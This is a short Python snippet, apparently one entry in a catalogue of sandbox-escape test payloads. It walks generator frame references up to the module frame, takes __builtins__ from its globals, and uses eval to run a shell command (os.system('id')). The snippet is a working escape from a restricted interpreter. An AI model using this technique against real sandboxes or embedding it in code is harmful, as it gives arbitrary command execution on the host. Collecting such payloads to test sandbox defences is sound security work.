# Source: https://github.com/saint2706/Coding-For-MBA/pull/609
# Family: frame
# What: walks f_back repeatedly until the module frame, then pulls __builtins__ from f_globals
def g():
    yield

def deep():
    it = g()
    next(it)
    fr = it.gi_frame
    while fr.f_back is not None:
        fr = fr.f_back
    return fr

top = deep()
top.f_globals["__builtins__"].eval("__import__('os').system('id')")
